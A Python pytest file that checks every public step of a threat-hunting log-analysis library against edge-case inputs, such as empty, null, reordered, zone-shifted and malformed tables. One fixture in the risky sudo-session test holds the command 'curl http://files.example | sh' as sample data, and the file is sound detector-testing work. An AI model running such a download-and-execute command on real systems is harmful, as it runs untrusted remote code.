"""Every public step on inputs that are ordinary in logs and hard on code."""

import copy
import warnings
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

import pandas as pd
import polars as pl
import pyarrow as pa
import pytest

from huntkit import analyze
from huntkit.core.errors import HuntkitError
from huntkit.tables import to_polars

Step = Callable[[Any], Any]

BEGIN = datetime(2026, 3, 1, tzinfo=UTC)
COUNT = 60
OPENED = "pam_unix(sudo:session): session {} for user root by al(uid=0)"
ROWS = pl.DataFrame(
    {
        "TimeGenerated": [BEGIN + timedelta(hours=n) for n in range(COUNT)],
        "Computer": [f"ws{n % 3}" for n in range(COUNT)],
        "NewProcessName": [rf"C:\a{n % 4}\cmd.exe" for n in range(COUNT)],
        "ParentProcessName": [r"C:\x\explorer.exe"] * COUNT,
        "CommandLine": [f"ping ws{n % 3} -n {n}" for n in range(COUNT)],
        "number": [50.0 + n % 24 for n in range(COUNT)],
        "words": [n % 7 for n in range(COUNT)],
        "did": [["Get", "Set"] if n % 9 else ["Get", "Drop"] for n in range(COUNT)],
        "src_ip": ["192.0.2.7"] * COUNT,
        "dst_ip": ["203.0.113.9"] * COUNT,
        "EventID": [4624 if n % 2 == 0 else 4634 for n in range(COUNT)],
        "TargetLogonId": [f"0x{n // 2:x}" for n in range(COUNT)],
        "TargetUserName": ["al"] * COUNT,
        "HostName": ["lx1"] * COUNT,
        "SyslogMessage": [OPENED.format("closed" if n % 2 else "opened") for n in range(COUNT)],
        "score": [float(n % 24) for n in range(COUNT)],
        "anomalies": [1 if n % 24 == 3 else 0 for n in range(COUNT)],
        "User": ["al"] * COUNT,
        "Start": [BEGIN + timedelta(hours=n) for n in range(COUNT)],
        "End": [BEGIN + timedelta(hours=n + 1) for n in range(COUNT)],
    }
)
TIME = "TimeGenerated"
SERIES = {"data_column": "number", "method": "light"}


def polling(data: Any) -> Any:
    return analyze.PeriodogramPollingDetector(data, copy=True).detect_polling(TIME, ["src_ip"])


STEPS: dict[str, tuple[list[str], Step]] = {
    "PeriodogramPollingDetector": ([TIME, "src_ip"], polling),
    "add_process_features": (["NewProcessName", "CommandLine"], analyze.add_process_features),
    "beacons": ([TIME, "src_ip", "dst_ip"], analyze.beacons),
    "char_ord_score_df": (["CommandLine"], lambda d: analyze.char_ord_score_df(d, "CommandLine")),
    "cluster_auditd_processes": (
        ["NewProcessName", "CommandLine"],
        analyze.cluster_auditd_processes,
    ),
    "cluster_syslog_logons_df": (
        [TIME, "HostName", "SyslogMessage"],
        analyze.cluster_syslog_logons_df,
    ),
    "clusters": (
        [TIME, "Computer", "CommandLine"],
        lambda d: analyze.clusters(d, "CommandLine"),
    ),
    "crc32_hash_df": (["CommandLine"], lambda d: analyze.crc32_hash_df(d, "CommandLine")),
    "create_host_record": ([TIME, "HostName"], lambda d: analyze.create_host_record(d, d, d)),
    "create_session_col": (
        [TIME, "Computer"],
        lambda d: analyze.create_session_col(d, ["Computer"], TIME, 20, 2),
    ),
    "dbcluster_events": (
        [TIME, "number", "words"],
        lambda d: analyze.dbcluster_events(d, ["number", "words"])[0],
    ),
    "delim_count_df": (["CommandLine"], lambda d: analyze.delim_count_df(d, "CommandLine")),
    "extract_anomaly_periods": ([TIME, "anomalies"], analyze.extract_anomaly_periods),
    "find_anomaly_periods": ([TIME, "anomalies"], analyze.find_anomaly_periods),
    "logon_sessions": (
        [TIME, "Computer", "EventID", "TargetLogonId", "TargetUserName"],
        analyze.logon_sessions,
    ),
    "outliers": (
        ["number", "words"],
        lambda d: analyze.outliers(d, method="isolation_forest"),
    ),
    "patterns": (["Computer", "CommandLine"], lambda d: analyze.patterns(d, "CommandLine")),
    "rare": ([TIME, "Computer", "CommandLine"], lambda d: analyze.rare(d, "CommandLine")),
    "rare_pairs": (
        [TIME, "Computer", "NewProcessName", "ParentProcessName"],
        analyze.rare_pairs,
    ),
    "remove_common_items": (["Computer"], lambda d: analyze.remove_common_items(d, ["Computer"])),
    "risky_sudo_sessions": (
        ["User", "Start", "End"],
        lambda d: analyze.risky_sudo_sessions(d, {BEGIN: "curl http://files.example | sh"}),
    ),
    "score_sessions": ([TIME, "did"], lambda d: analyze.score_sessions(d, "did")),
    "sessionize_data": (
        [TIME, "Computer", "CommandLine"],
        lambda d: analyze.sessionize_data(d, ["Computer"], TIME, 20, 2, "CommandLine"),
    ),
    "set_new_anomaly_threshold": (
        [TIME, "score", "anomalies"],
        lambda d: analyze.set_new_anomaly_threshold(d, 2.0),
    ),
    "timeseries_anomalies_stl": (
        [TIME, "number"],
        lambda d: analyze.timeseries_anomalies_stl(d, **SERIES),
    ),
    "token_count_df": (["CommandLine"], lambda d: analyze.token_count_df(d, "CommandLine")),
    "ts_anomalies_stl": ([TIME, "number"], lambda d: analyze.ts_anomalies_stl(d, **SERIES)),
    "unusual_starts": (
        [TIME, "Computer", "NewProcessName", "ParentProcessName", "CommandLine"],
        analyze.unusual_starts,
    ),
}
# What takes no table: values, texts, arrays and collections.
OTHERS = {
    "Cmd", "HostRecord", "Model", "Observation", "Observations", "RobustRandomCutForest",
    "SessionType", "char_ord_score", "crc32_hash", "create_time_period_kqlfilter", "delim_count",
    "delim_hash", "format_powershell", "identify_outliers", "identify_outliers_rrcf",
    "token_count",
}  # fmt: skip

SHAPES: dict[str, Callable[[pl.DataFrame], pl.DataFrame]] = {
    "empty": lambda rows: rows.clear(),
    "one row": lambda rows: rows.head(1),
    "two rows": lambda rows: rows.head(2),
    "all null": lambda rows: rows.select(
        pl.lit(None, kind).repeat_by(rows.height).explode().alias(name)
        for name, kind in rows.schema.items()
    ),
    "null without a type": lambda rows: rows.select(
        pl.Series(name, [None] * rows.height) for name in rows.columns
    ),
    "constant": lambda rows: (
        rows.select(pl.all().first().repeat_by(rows.height).explode())
        if "did" not in rows.columns
        else pl.concat([rows.head(1)] * rows.height)
    ),
    "backwards": lambda rows: rows.reverse(),
    "twice": lambda rows: pl.concat([rows, rows]),
    "holes": lambda rows: rows.select(
        pl.when(pl.int_range(pl.len()) % 5 != place % 5).then(pl.col(name)).alias(name)
        for place, name in enumerate(rows.columns)
    ),
    "another zone": lambda rows: rows.with_columns(
        pl.col(pl.Datetime).dt.convert_time_zone("America/New_York")
    ),
    "no zone": lambda rows: rows.with_columns(pl.col(pl.Datetime).dt.replace_time_zone(None)),
    "times as text": lambda rows: rows.with_columns(pl.col(pl.Datetime).dt.to_string("iso:strict")),
    "no times at all": lambda rows: rows.with_columns(
        pl.lit("soon").alias(name) for name, kind in rows.schema.items() if kind.is_temporal()
    ),
    "extremes": lambda rows: (
        rows.with_columns(
            pl.when(pl.int_range(pl.len()) % 7 == 0)
            .then(pl.lit(float("inf")))
            .when(pl.int_range(pl.len()) % 7 == 1)
            .then(pl.lit(float("nan")))
            .when(pl.int_range(pl.len()) % 7 == 2)
            .then(pl.lit(1.7e308))
            .otherwise(pl.col(pl.Float64))
            .name.keep()
        )
        if pl.Float64 in rows.dtypes
        else rows
    ),
    "odd text": lambda rows: (
        rows.with_columns(
            pl.when(pl.int_range(pl.len()) % 3 == 0)
            .then(pl.lit("\x00\u202e\U0010ffff" * 40))
            .when(pl.int_range(pl.len()) % 3 == 1)
            .then(pl.lit(""))
            .otherwise(pl.col(pl.String))
            .name.keep()
        )
        if pl.String in rows.dtypes
        else rows
    ),
    "whole numbers": lambda rows: rows.with_columns(pl.col(pl.Float64).cast(pl.Int64)),
    "numbers as text": lambda rows: rows.with_columns(pl.col(pl.Float64, pl.Int64).cast(pl.String)),
}
SAME = {"backwards", "another zone", "no zone", "times as text"}  # what they must not change
KINDS: dict[str, Callable[[pl.DataFrame], Any]] = {
    "polars": pl.DataFrame.clone,
    "pandas": pl.DataFrame.to_pandas,
    "arrow": pl.DataFrame.to_arrow,
}
ALL_KINDS = {"empty", "all null", "holes"}
HEAVY = {"PeriodogramPollingDetector", "outliers"}
FEW = ("empty", "one row", "all null", "constant", "holes", "extremes")


def test_every_public_name_is_walked_or_takes_no_table() -> None:
    assert set(STEPS) | OTHERS == set(analyze.__all__)
    assert not set(STEPS) & OTHERS


def run(step: Step, given: Any) -> Any:
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        warnings.simplefilter("ignore", UserWarning)  # rows left out are told
        return step(given)


def answer(step: Step, given: Any) -> Any:
    """What the step gives, or the error that it raises on purpose; others are not caught."""
    try:
        return run(step, given)
    except HuntkitError as problem:
        return problem


def same(one: Any, other: Any) -> bool:
    if isinstance(one, pd.DataFrame):
        return bool(one.index.equals(other.index)) and to_polars(one).equals(to_polars(other))
    return bool(one.equals(other))


@pytest.mark.parametrize("name", STEPS)
def test_a_step_answers_or_says_why_not(name: str) -> None:
    columns, step = STEPS[name]
    wanted = run(step, ROWS.select(columns))
    for shape in FEW if name in HEAVY else SHAPES:
        rows = SHAPES[shape](ROWS.select(columns))
        for kind in KINDS if shape in ALL_KINDS else ("polars",):
            told = f"{shape} as {kind}"
            given = KINDS[kind](rows)
            before = copy.deepcopy(given) if kind == "pandas" else KINDS[kind](rows)
            found = answer(step, given)
            assert same(given, before), f"{told}: the input was changed"
            if isinstance(found, HuntkitError):
                assert str(found)
                assert shape not in SAME, f"{told}: {found}"
            else:
                like(found, wanted, given, told)
                if shape in SAME and isinstance(wanted, pl.DataFrame):
                    assert to_polars(found).height == wanted.height, told


def like(found: Any, wanted: Any, given: Any, told: str) -> None:
    """The kind of table that was given, with the columns that there always are."""
    if not isinstance(wanted, pl.DataFrame):  # a list, a dictionary, a record, a column
        if isinstance(given, pl.DataFrame):
            assert type(found) is type(wanted), told
        return
    kinds = {pl.DataFrame: pl.DataFrame, pd.DataFrame: pd.DataFrame, pa.Table: pa.Table}
    assert isinstance(found, kinds[type(given)]), told
    assert to_polars(found).columns == wanted.columns, told
